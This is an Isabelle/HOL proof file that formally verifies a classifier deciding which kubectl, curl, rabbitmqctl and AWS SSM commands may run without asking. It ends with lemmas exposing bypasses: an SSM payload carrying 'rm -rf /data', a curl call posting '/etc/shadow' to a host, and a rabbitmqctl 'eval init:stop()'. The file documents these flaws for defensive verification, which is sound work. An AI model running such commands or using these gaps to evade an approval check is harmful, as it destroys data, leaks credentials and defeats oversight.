    by (simp_all add: commandOperators_def)
  have acts: "acts pre c cs \<longleftrightarrow> \<not> e \<and> \<not> s \<and>
      (c = CHR 0x60 \<or> (c = CHR ''$'' \<and> HasPrefix cs ''('') \<or>
       (\<not> d \<and> (c \<in> set commandOperators \<or> (c = CHR 0x23 \<and> prev \<in> {None, Some (CHR '' ''), Some (CHR 0x09)}))))"
    unfolding acts_operators Cons.prems(1) prod.case start by (rule refl)
  have "unquotedSyntax s d e prev (c # cs) \<longleftrightarrow> acts pre c cs \<or> unquotedSyntax s' d' e' (Some c) cs"
  proof (cases "e \<or> s \<or> c = CHR 0x5C \<or> c = CHR 0x27 \<and> \<not> d \<or> c = CHR 0x22")
    case True
    then have "\<not> acts pre c cs" unfolding acts using plain by auto
    moreover have "unquotedSyntax s d e prev (c # cs) = unquotedSyntax s' d' e' (Some c) cs"
    proof -
      consider "e" | "\<not> e" "c = CHR 0x5C" "\<not> s" | "\<not> e" "c = CHR 0x27" "\<not> d" | "\<not> e" "c = CHR 0x22" "\<not> s"
        | "\<not> e" "s" "\<not> (c = CHR 0x27 \<and> \<not> d)"
        using True by blast
      then show ?thesis
      proof cases
        case 5
        then have "s' = True" "d' = d" "e' = False" using st by (auto simp: quoteStep_def)
        then show ?thesis using 5 by auto
      qed (use st in \<open>simp_all add: quoteStep_def\<close>)
    qed
    ultimately show ?thesis by blast
  next
    case False
    then have same: "s' = s" "d' = d" "e' = e" and "\<not> e" "\<not> s" using st by (auto simp: quoteStep_def split: if_splits)
    have "unquotedSyntax s d e prev (c # cs) \<longleftrightarrow>
        (if c = CHR 0x60 \<or> (c = CHR ''$'' \<and> cs \<noteq> [] \<and> hd cs = CHR ''('') then True
         else if \<not> d \<and> c \<in> set commandOperators then True
         else if \<not> d \<and> c = CHR 0x23 \<and> prev \<in> {None, Some (CHR '' ''), Some (CHR 0x09)} then True
         else unquotedSyntax s d e (Some c) cs)"
      using False by (simp only: unquotedSyntax.simps) auto
    from decided_or [OF \<open>\<not> e\<close> \<open>\<not> s\<close> this] show ?thesis unfolding acts next_char same .
  qed
  then show ?case unfolding split ih by blast
qed (simp split: prod.splits)

lemma hasUnquotedShellSyntax_iff:
  "hasUnquotedShellSyntax command \<longleftrightarrow>
     quoteState command \<noteq> (False, False, False) \<or> (\<exists>pre c post. command = pre @ c # post \<and> acts pre c post)"
  using unquotedSyntax_spec [of "[]" False False False None command] by (simp add: hasUnquotedShellSyntax_def quoteState_def)

section \<open>Properties\<close>

text \<open>C27: A remote command of well-formed words is run without asking exactly if it is one simple command, no word holding a
shell operator, and it is one that observes by the grammar: a reporting program, a bare \<open>env\<close>, a reporting
subcommand of \<open>rabbitmqctl\<close> after its global flags, \<open>curl\<close> with URLs and reading options only, \<open>wget\<close> that writes to
standard output, or \<open>nc\<close> in its zero-I/O mode.\<close>

theorem remote_reads_exact:
  assumes "\<forall>f\<in>set fields. solid f"
  shows "remoteCommandIsReadOnly fields \<longleftrightarrow> (\<forall>f\<in>set fields. set f \<inter> set shellOperators = {}) \<and> observes fields"
  by (rule remote_iff [OF assms])

theorem remote_reads_exact_witness:
  "observes [''curl'', ''-sSm5'', ''http://localhost:8080/health''] \<and> \<not> observes [''curl'', ''-s'', ''-o'', ''/tmp/x'', ''http://host/x'']"
proof -
  let ?good = "[''curl'', ''-sSm5'', ''http://localhost:8080/health'']" and ?bad = "[''curl'', ''-s'', ''-o'', ''/tmp/x'', ''http://host/x'']"
  have "list_all solid ?good" "list_all solid ?bad" by code_simp+
  then have s: "\<forall>f\<in>set ?good. solid f" "\<forall>f\<in>set ?bad. solid f" by (simp_all only: list_all_iff)
  have "remoteCommandIsReadOnly ?good" "\<not> remoteCommandIsReadOnly ?bad" by code_simp+
  moreover have "list_all (\<lambda>f. \<not> ContainsAny f shellOperators) ?bad" by code_simp
  then have "\<forall>f\<in>set ?bad. set f \<inter> set shellOperators = {}" by (simp only: list_all_iff ContainsAny_iff not_not simp_thms)
  ultimately show ?thesis using remote_reads_exact [OF s(1)] remote_reads_exact [OF s(2)] by blast
qed

text \<open>The two lists of \<open>curl\<close> options agree: whatever the words, a \<open>curl\<close> command judged to read can be parsed so that no word in the
place of an option is one that makes \<open>curl\<close> send or write.\<close>

theorem reading_curl_never_mutates:
  assumes "IsReadOnlyCurlCommand input"
  shows "\<exists>args options. Fields input = ''curl'' # args \<and> curlReads args options \<and> (\<forall>t\<in>set options. \<not> IsCurlMutationToken t)"
proof -
  obtain args where "Fields input = ''curl'' # args" "curlArgs args"
    using assms by (auto simp: IsReadOnlyCurlCommand_def split: list.splits)
  then show ?thesis using curlArgs_reads reads_not_mutating by blast
qed

theorem reading_curl_never_mutates_witness:
  "\<exists>args options. Fields ''curl -sS -H Accept:json http://h/x'' = ''curl'' # args \<and> curlReads args options"
proof -
  have "IsReadOnlyCurlCommand ''curl -sS -H Accept:json http://h/x''" by code_simp
  from reading_curl_never_mutates [OF this] show ?thesis by blast
qed

text \<open>How the verb of a command is reached.\<close>

inductive afterGlobals :: "string list \<Rightarrow> string list \<Rightarrow> bool" where
  "\<not> HasPrefix verb ''-'' \<Longrightarrow> afterGlobals (verb # args) (verb # args)"
| "HasPrefix flag ''-'' \<Longrightarrow> Contains flag ''='' \<Longrightarrow> afterGlobals parts rest \<Longrightarrow> afterGlobals (flag # parts) rest"
| "flag \<in> set kubectlGlobalFlagsWithValue \<Longrightarrow> afterGlobals parts rest \<Longrightarrow> afterGlobals (flag # value # parts) rest"

lemma skipGlobals_sound: "skipGlobals parts = Some (v # args) \<Longrightarrow> afterGlobals parts (v # args)"
proof (induction parts rule: skipGlobals.induct)
  case (2 flag parts)
  consider "\<not> HasPrefix flag ''-''" | "HasPrefix flag ''-''" "Contains flag ''=''"
    | x rest where "HasPrefix flag ''-''" "\<not> Contains flag ''=''" "flag \<in> set kubectlGlobalFlagsWithValue" "parts = x # rest"
    using "2.prems" by (cases parts) (auto split: if_splits)
  then show ?case
  proof cases
    case 1
    then show ?thesis using "2.prems" by (auto intro: afterGlobals.intros(1))
  next
    case 2
    then show ?thesis using "2.prems" "2.IH"(1) by (auto intro: afterGlobals.intros(2))
  next
    case (3 x rest)
    then show ?thesis using "2.prems" "2.IH"(2) by (auto intro: afterGlobals.intros(3))
  qed
qed simp

lemma exec_remote:
  "ExecRemoteCommandIsReadOnly fields \<Longrightarrow> \<exists>pre remote. fields = pre @ ''--'' # remote \<and> ''--'' \<notin> set pre \<and> remoteCommandIsReadOnly remote"
proof (induction fields)
  case (Cons f fields)
  show ?case
  proof (cases "f = ''--'' \<and> fields \<noteq> []")
    case True
    then have "f # fields = [] @ ''--'' # fields \<and> ''--'' \<notin> set [] \<and> remoteCommandIsReadOnly fields" using Cons.prems by simp
    then show ?thesis by blast
  next
    case False
    then have "ExecRemoteCommandIsReadOnly fields" using Cons.prems by auto
    then obtain pre remote where p: "fields = pre @ ''--'' # remote" "''--'' \<notin> set pre" "remoteCommandIsReadOnly remote" using Cons.IH by blast
    have "f \<noteq> ''--''" using False p(1) by auto
    then have "f # fields = (f # pre) @ ''--'' # remote \<and> ''--'' \<notin> set (f # pre) \<and> remoteCommandIsReadOnly remote" using p by simp
    then show ?thesis by blast
  qed
qed simp

text \<open>An \<open>exec\<close> that observes, and the verbs that read.\<close>

definition execReads :: "string list \<Rightarrow> bool" where
  "execReads fields \<longleftrightarrow> (\<exists>pre remote. fields = pre @ ''--'' # remote \<and> ''--'' \<notin> set pre \<and> remote \<noteq> [] \<and>
     (\<forall>f\<in>set remote. set f \<inter> {CHR '';'', CHR ''&'', CHR ''|'', CHR ''<'', CHR ''>'', CHR ''`'', CHR ''$'', CHR 0x0A} = {}) \<and>
     (observes remote \<or>
      (hd remote = ''curl'' \<and> (\<exists>f\<in>set remote. f = [] \<or> (\<exists>c\<in>set f. isSpace c)) \<and> observes (Fields (Join remote '' '')))))"

definition verbReads :: "string \<Rightarrow> string list \<Rightarrow> bool" where
  "verbReads verb args \<longleftrightarrow>
     ToLower verb \<in> {''api-resources'', ''api-versions'', ''cluster-info'', ''describe'', ''diff'', ''explain'', ''get'', ''logs'', ''options'',
       ''port-forward'', ''proxy'', ''top'', ''version'', ''wait''} \<or>
     (ToLower verb = ''config'' \<and> args \<noteq> [] \<and> hd args \<in> {''current-context'', ''get-contexts'', ''get-clusters'', ''view''}) \<or>
     (ToLower verb = ''rollout'' \<and> args \<noteq> [] \<and> hd args \<in> {''status'', ''history''}) \<or>
     (ToLower verb = ''auth'' \<and> args \<noteq> [] \<and> hd args = ''can-i'') \<or>
     (ToLower verb = ''exec'' \<and> execReads (verb # args))"

definition asksHelp :: "string list \<Rightarrow> bool" where
  "asksHelp parts \<longleftrightarrow> parts = [''--version''] \<or>
     (\<exists>pre l. parts = pre @ [l] \<and> l \<in> {''-h'', ''--help''} \<and> (\<forall>t\<in>set pre. \<not> HasPrefix t ''-''))"

lemma shellOperators_set:
  "set shellOperators = {CHR '';'', CHR ''&'', CHR ''|'', CHR ''<'', CHR ''>'', CHR ''`'', CHR ''$'', CHR 0x0A}"
  by (auto simp: shellOperators_def)

lemma exec_reads:
  assumes "ExecRemoteCommandIsReadOnly fields"
  shows "execReads fields"
proof -
  obtain pre remote where f: "fields = pre @ ''--'' # remote" "''--'' \<notin> set pre" and r: "remoteCommandIsReadOnly remote"
    using exec_remote [OF assms] by blast
  have ops: "\<forall>f\<in>set remote. set f \<inter> set shellOperators = {}" and ne: "remote \<noteq> []" using r unfolding remote_words by blast+
  have "observes remote \<or> (hd remote = ''curl'' \<and> (\<exists>f\<in>set remote. f = [] \<or> (\<exists>c\<in>set f. isSpace c)) \<and> observes (Fields (Join remote '' '')))"
  proof (cases "\<forall>f\<in>set remote. solid f")
    case True
    then show ?thesis using r remote_iff by blast
  next
    case False
    then have "\<exists>f\<in>set remote. f = [] \<or> (\<exists>c\<in>set f. isSpace c)" by (auto simp: solid_def)
    moreover have "if hd remote = ''curl'' then observes (Fields (Join remote '' '')) else observes remote"
      using r curl_observes unfolding remote_words by (auto split: if_splits)
    ultimately show ?thesis by (auto split: if_splits)
  qed
  then show ?thesis unfolding execReads_def shellOperators_set [symmetric] using f ops ne by blast
qed

lemma verb_reads:
  assumes "ToLower verb \<in> set kubectlReadVerbs \<or> (args \<noteq> [] \<and> readSubcommand (ToLower verb) (hd args)) \<or>
    (ToLower verb = ''exec'' \<and> ExecRemoteCommandIsReadOnly (verb # args))"
  shows "verbReads verb args"
  using assms exec_reads [of "verb # args"] unfolding verbReads_def kubectlReadVerbs_def readSubcommand_def by auto

lemma help_asked: "isHelpRequest parts \<Longrightarrow> asksHelp parts"
  by (cases parts rule: rev_cases) (auto simp: isHelpRequest_def asksHelp_def list_ex_iff split: if_splits)

text \<open>C37: A \<open>kubectl\<close> command passes as a read only if the shell runs it as this one command (its quotes are closed and no
character the shell acts on stands outside of them) and it is a request for help (\<open>--version\<close> alone, or words without
options before a last \<open>-h\<close> or \<open>--help\<close>), or has a reading verb or subcommand after global flags whose end is known, or
is an \<open>exec\<close> with a remote command after its first \<open>--\<close>, in which no word holds a shell operator and which observes by
the grammar. There is one exception, a defect the development reports: the words of a remote \<open>curl\<close> are joined with blanks
and split again, so where one of them is empty or holds a blank it is the words of that split that observe.\<close>

theorem kubectl_reads_justified:
  assumes "InferKubectlVerbType shlex_Split command = ''read''"
  shows "quoteState command = (False, False, False) \<and> (\<forall>pre c post. command = pre @ c # post \<longrightarrow> \<not> acts pre c post) \<and>
    (\<exists>prog parts. shlex_Split (TrimSpace command) = Some (prog # parts) \<and> EqualFold prog ''kubectl'' \<and>
       (asksHelp parts \<or> (\<exists>verb args. afterGlobals parts (verb # args) \<and> verbReads verb args)))"
proof -
  have quoted: "\<not> hasUnquotedShellSyntax command" using assms by (auto simp: InferKubectlVerbType_def)
  obtain prog parts where p: "shlex_Split (TrimSpace command) = Some (prog # parts)" "EqualFold prog ''kubectl''"
    using assms by (auto simp: InferKubectlVerbType_def split: if_splits option.splits list.splits)
  have "\<exists>verb args. afterGlobals parts (verb # args) \<and> verbReads verb args" if nh: "\<not> isHelpRequest parts"
  proof -
    obtain verb args where s: "skipGlobals parts = Some (verb # args)"
      using assms quoted p nh by (auto simp: InferKubectlVerbType_def split: if_splits option.splits list.splits)
    then have "ToLower verb \<in> set kubectlReadVerbs \<or> (args \<noteq> [] \<and> readSubcommand (ToLower verb) (hd args)) \<or>
        (ToLower verb = ''exec'' \<and> ExecRemoteCommandIsReadOnly (verb # args))"
      using assms quoted p nh by (auto simp: InferKubectlVerbType_def Let_def split: if_splits)
    then show ?thesis using skipGlobals_sound [OF s] verb_reads by blast
  qed
  moreover have "quoteState command = (False, False, False)" "\<forall>pre c post. command = pre @ c # post \<longrightarrow> \<not> acts pre c post"
    using quoted unfolding hasUnquotedShellSyntax_iff by blast+
  ultimately show ?thesis using p help_asked by blast
qed

definition wordsOf :: "string \<Rightarrow> string list option" where
  "wordsOf s = Some (Fields s)"

theorem kubectl_reads_justified_witness:
  "\<exists>verb args. afterGlobals [''-n'', ''db'', ''exec'', ''pg-0'', ''--'', ''df'', ''-h''] (verb # args) \<and> verbReads verb args"
proof -
  have r: "InferKubectlVerbType wordsOf ''kubectl -n db exec pg-0 -- df -h'' = ''read''" by code_simp
  have w: "wordsOf (TrimSpace ''kubectl -n db exec pg-0 -- df -h'') =
      Some (''kubectl'' # [''-n'', ''db'', ''exec'', ''pg-0'', ''--'', ''df'', ''-h''])" by code_simp
  have "\<not> asksHelp [''-n'', ''db'', ''exec'', ''pg-0'', ''--'', ''df'', ''-h'']"
    by (auto simp: asksHelp_def HasPrefix_iff Cons_eq_append_conv)
  then show ?thesis using kubectl_reads_justified [OF r] unfolding w by simp
qed

text \<open>Where the parts meet, commands slip through. Of an \<open>ssm\<close> payload only the text before the first \<open>--\<close> or closing bracket is
looked at; \<open>curl\<close> words are joined by blanks and split again, so that an empty word shifts values onto
options; a global flag of \<open>rabbitmqctl\<close> that takes a value but is not listed hides the subcommand; and a header value
may name a file.\<close>

definition inQuotes :: "string \<Rightarrow> string" where
  "inQuotes s = [CHR 0x22] @ s @ [CHR 0x22]"

lemma ssm_payload_cut_short:
  "SSMPayloadIsReadOnly (''aws ssm send-command --parameters commands='' @ inQuotes ''ls --color; rm -rf /data'')"
  "SSMPayloadIsReadOnly (''aws ssm send-command --parameters commands=['' @ inQuotes ''ls a]; rm -rf /data'' @ '']'')"
  by code_simp+

lemma empty_word_hides_output:
  "remoteCommandIsReadOnly [''curl'', ''-H'', '''', ''-o'', ''/tmp/x'', ''http://host/x'']"
  "\<not> curlArgs [''-H'', '''', ''-o'', ''/tmp/x'', ''http://host/x'']"
  by code_simp+

lemma unlisted_flag_hides_eval:
  "remoteCommandIsReadOnly [''rabbitmqctl'', ''--script-name'', ''list_queues'', ''eval'', ''init:stop().'']"
  by code_simp

lemma header_file_sent:
  "remoteCommandIsReadOnly [''curl'', ''-H'', ''@/etc/shadow'', ''http://host/x'']"
  by code_simp

end
